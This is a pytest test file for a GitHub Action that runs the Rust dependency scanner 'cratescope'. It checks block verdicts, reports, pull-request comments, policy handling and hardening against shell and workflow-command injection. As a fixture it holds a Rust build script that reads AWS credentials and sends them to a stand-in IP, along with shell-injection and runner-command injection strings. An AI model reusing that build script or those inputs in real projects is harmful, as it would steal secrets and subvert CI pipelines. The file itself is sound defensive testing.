"""The GitHub action: its steps run as a runner runs them, and what it is made of."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.contract.conftest import Runner, Service
from tests.unit.registry.feeds import FULL, pack, zipped

ROOT = Path(__file__).parents[2]
BIN = Path(sys.executable).parent
ACTION = yaml.safe_load((ROOT / "action.yml").read_text())
INSTALL = ("Install cratescope",)
THEFT = (
    'fn main() { let k = std::fs::read("/root/.aws/credentials").unwrap();\n'
    ' let mut s = std::net::TcpStream::connect("198.51.100.7:443").unwrap();\n'
    " std::io::Write::write_all(&mut s, &k).unwrap(); }\n"
)
AUTHOR = "github-actions[bot]"


def lock(workspace: Path, name: str, version: str) -> None:
    (workspace / "Cargo.lock").write_text(
        f'version = 4\n\n[[package]]\nname = "{name}"\nversion = "{version}"\n'
        'source = "registry+https://github.com/rust-lang/crates.io-index"\n'
        f'checksum = "{"ab" * 32}"\n'
    )


def git(folder: Path, *words: str) -> str:
    settings = ["-c", "user.name=test", "-c", "user.email=test@example.com", "-c", "gc.auto=0"]
    command = ["git", *settings, *words]
    return subprocess.run(command, cwd=folder, capture_output=True, text=True, check=True).stdout


def pull_request(runner: Runner, build: str) -> None:
    """A repository checked out as a merge of a change to its build script."""
    project = runner.workspace
    git(project, "init", "-q", "-b", "main")
    (project / "src").mkdir()
    (project / "src/lib.rs").touch()
    (project / "Cargo.toml").write_text('[package]\nname = "app"\nversion = "0.1.0"\n')
    (project / "build.rs").write_text("fn main() {}\n")
    git(project, "add", "-A")
    git(project, "commit", "-q", "-m", "base")
    git(project, "checkout", "-q", "-b", "change")
    (project / "build.rs").write_text(build)
    git(project, "commit", "-q", "-a", "-m", "change")
    git(project, "checkout", "-q", "main")
    git(project, "merge", "-q", "--no-ff", "-m", "merge", "change")
    git(project, "checkout", "-q", "--detach")
    runner.sha, runner.ref = git(project, "rev-parse", "HEAD").strip(), "refs/pull/7/merge"
    runner.event_name, runner.event = "pull_request", {"number": 7}


def commands(log: str) -> list[str]:
    """The lines that a runner would obey."""
    obeyed, stop = [], ""
    for line in log.splitlines():
        if stop:
            stop = "" if line == f"::{stop}::" else stop
        elif line.startswith("::stop-commands::"):
            stop = line.removeprefix("::stop-commands::")
        elif re.match(r"\s*::", line):
            obeyed.append(line)
    return obeyed


def test_a_known_bad_name_fails_the_job_with_reports_and_a_summary(runner: Runner) -> None:
    lock(runner.workspace, "rustdecimal", "1.23.1")
    assert runner.run(skip=INSTALL, scan="false") == 20, runner.log
    assert runner.outputs["verdict"] == "BLOCK"
    assert runner.outputs["exit-code"] == "20"
    found = json.loads(Path(runner.outputs["reports"], "cratescope.json").read_text())
    assert found["verdict"] == "BLOCK"
    sarif = json.loads(Path(runner.outputs["sarif"]).read_text())
    where = sarif["runs"][0]["results"][0]["locations"][0]["physicalLocation"]
    assert where["artifactLocation"]["uri"] == "Cargo.lock"
    assert "### cratescope" in runner.summary
    assert "rustdecimal" in runner.summary
    assert "rustdecimal" in runner.log
    assert commands(runner.log) == ["::error title=cratescope::BLOCK (exit code 20)"]


@pytest.mark.parametrize(("mildest", "code"), [("never", 0), ("block", 20), ("review", 20)])
def test_the_mildest_failing_verdict_is_the_owners_choice(
    runner: Runner, mildest: str, code: int
) -> None:
    lock(runner.workspace, "rustdecimal", "1.23.1")
    assert runner.run(skip=INSTALL, scan="false", fail_on=mildest) == code
    assert runner.outputs["verdict"] == "BLOCK"


def test_a_gap_fails_unless_only_block_does(runner: Runner) -> None:
    (runner.workspace / "Cargo.lock").write_text("<<<<<<< ours\n")
    assert runner.run(skip=INSTALL, scan="false") == 30
    assert runner.run(skip=INSTALL, scan="false", fail_on="block") == 0
    assert runner.outputs["verdict"] == "INCOMPLETE"


def test_what_makes_no_sense_fails_whatever_is_chosen(runner: Runner) -> None:
    assert runner.run(skip=INSTALL, fail_on="never", path="nowhere") == 2
    assert runner.outputs["verdict"] == "ERROR"
    for wrong in ({"command": "ran"}, {"fail_on": "no"}, {"format": "png"}, {"scan": "yes"}):
        assert runner.run(skip=INSTALL, **wrong) == 2
        assert "must be one of" in runner.log or "format: audit has" in runner.log
    assert runner.outputs["sarif"] == ""


def test_advisories_are_fetched_and_their_absence_is_a_warning(
    runner: Runner, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    lock(runner.workspace, "serde", "1.0.200")
    rustsec, osv = tmp_path / "rustsec.tar.gz", tmp_path / "osv.zip"
    monkeypatch.setenv("CRATESCOPE_RUSTSEC_FEED", str(rustsec))
    monkeypatch.setenv("CRATESCOPE_OSV_FEED", str(osv))
    assert runner.run(skip=INSTALL, scan="false", advisories="true") == 0
    assert "::warning title=cratescope::advisories could not be fetched" in runner.log
    rustsec.write_bytes(pack({"crates/quokka/RUSTSEC-2026-0001.md": FULL}))
    package = {"ecosystem": "crates.io", "name": "quokka"}
    affected = [{"package": package, "versions": ["1.0.0"]}]
    entry: dict[str, object] = {
        "id": "MAL-2026-1",
        "modified": "2026-01-02T00:00:00Z",
        "affected": affected,
    }
    osv.write_bytes(zipped(entry))
    runner.log = ""
    assert runner.run(skip=INSTALL, scan="false", advisories="true") == 0
    assert "rustsec: 1 advisories" in runner.log
    assert len(commands(runner.log)) == 1


def test_inputs_are_no_shell_and_no_options(runner: Runner) -> None:
    lock(runner.workspace, "serde", "1.0.200")
    for path in ("$(touch made)", "`touch made`", "; touch made", "--output=made", "a\n::error::b"):
        assert runner.run(skip=INSTALL, scan="false", path=path) == 2
    assert not (runner.workspace / "made").exists()
    assert {one.partition(" title")[0] for one in commands(runner.log)} == {"::error"}
    assert "::error::b" not in commands(runner.log)


def test_a_name_in_the_project_says_nothing_to_the_runner(runner: Runner) -> None:
    folder = runner.workspace / "x\n::add-mask::y"
    folder.mkdir()
    lock(folder, "rustdecimal", "1.23.1")
    assert runner.run(skip=INSTALL, scan="false") == 20
    assert commands(runner.log) == ["::error title=cratescope::BLOCK (exit code 20)"]


def test_a_pull_request_gets_one_comment_that_is_replaced(runner: Runner, service: Service) -> None:
    pull_request(runner, THEFT)
    runner.api_url = service.url
    for number in range(130):
        service.comment("someone", f"comment {number}")
    service.comment("someone", "<!-- cratescope diff -->\n### cratescope: CLEAR")
    assert runner.run(skip=INSTALL) == 20, runner.log
    assert runner.run(skip=INSTALL) == 20
    (own,) = [one for one in service.comments if one["user"]["login"] == AUTHOR]
    assert own["body"].startswith("<!-- cratescope diff -->\n### cratescope: BLOCK")
    assert service.comments[130]["body"].endswith("CLEAR")
    assert {one[2] for one in service.seen} == {"Bearer github-token"}
    assert {one[1].removeprefix("/repos/owner/project/issues/") for one in service.seen} == {
        "7/comments",
        f"comments/{own['id']}",
    }
    assert "app" in runner.summary


def test_nothing_new_makes_no_comment_and_clears_an_old_one(
    runner: Runner, service: Service
) -> None:
    pull_request(runner, "fn main() { }\n")
    runner.api_url = service.url
    assert runner.run(skip=INSTALL) == 0, runner.log
    assert service.comments == []
    service.comment(AUTHOR, "<!-- cratescope diff -->\n### cratescope: BLOCK")
    assert runner.run(skip=INSTALL) == 0
    assert "CLEAR" in service.comments[0]["body"]


def test_a_comment_that_cannot_be_written_changes_no_verdict(
    runner: Runner, service: Service
) -> None:
    pull_request(runner, THEFT)
    runner.api_url, service.status = service.url, 403
    assert runner.run(skip=INSTALL) == 20
    assert "::warning title=cratescope::no comment, 403: the token may not write" in runner.log


def test_the_commit_before_comes_from_the_event_if_no_merge_is_checked_out(
    runner: Runner,
) -> None:
    pull_request(runner, THEFT)
    base = git(runner.workspace, "rev-parse", "HEAD~1").strip()
    runner.event_name, runner.ref, runner.event = "push", "refs/heads/main", {"before": base}
    assert runner.run(skip=INSTALL, command="diff") == 20, runner.log
    runner.event = {"before": "0" * 40}
    assert runner.run(skip=INSTALL, command="diff") == 2
    assert "the event names no commit" in runner.log


def test_a_policy_decides_and_its_decision_is_what_counts(runner: Runner) -> None:
    lock(runner.workspace, "rustdecimal", "1.23.1")
    (runner.workspace / "policy.toml").write_text('[policy]\nmode = "observe"\n')
    assert runner.run(skip=INSTALL, scan="false", policy="policy.toml") == 0, runner.log
    assert runner.outputs["exit-code"] == "0"


def test_a_pull_request_cannot_bring_the_policy_that_judges_it(runner: Runner) -> None:
    pull_request(runner, THEFT)
    git(runner.workspace, "checkout", "-q", "main~1")
    (runner.workspace / "cratescope.toml").write_text('[policy]\nmode = "observe"\n')
    git(runner.workspace, "merge", "-q", "--no-ff", "-m", "merge", "change")
    git(runner.workspace, "add", "-A")
    git(runner.workspace, "commit", "-q", "--amend", "-m", "merge")
    runner.sha = git(runner.workspace, "rev-parse", "HEAD").strip()
    assert runner.run(skip=INSTALL, comment="false") == 20, runner.log


# What it is made of -------------------------------------------------------------------------------


def steps() -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = ACTION["runs"]["steps"]
    return found


def test_no_expression_reaches_a_shell_and_no_action_moves() -> None:
    for step in steps():
        assert "${{" not in step.get("run", "")
        if "uses" in step:
            assert re.fullmatch(r"[\w-]+/[\w-]+@[0-9a-f]{40}", step["uses"])


def test_one_step_alone_holds_the_token() -> None:
    holders = [one["name"] for one in steps() if "token" in json.dumps(one.get("env", {}))]
    assert holders == ["Comment"]


def test_every_input_is_used_and_documented() -> None:
    text = (ROOT / "action.yml").read_text()
    page = (ROOT / "docs/ci.md").read_text()
    for name in ACTION["inputs"]:
        assert f"inputs.{name}" in text
        assert f"`{name}`" in page


def test_the_checker_of_actions_finds_nothing() -> None:
    command = [str(BIN / "zizmor"), "--offline", "--persona", "pedantic", str(ROOT / "action.yml")]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout
    assert "completed" in done.stderr


def test_the_checker_of_actions_would_find_something(tmp_path: Path) -> None:
    text = (ROOT / "action.yml").read_text()
    broken = text.replace('exit "$STATUS"', "echo ${{ github.head_ref }}")
    assert broken != text
    (tmp_path / "action.yml").write_text(broken)
    command = [str(BIN / "zizmor"), "--offline", str(tmp_path / "action.yml")]
    assert subprocess.run(command, capture_output=True, check=False).returncode != 0
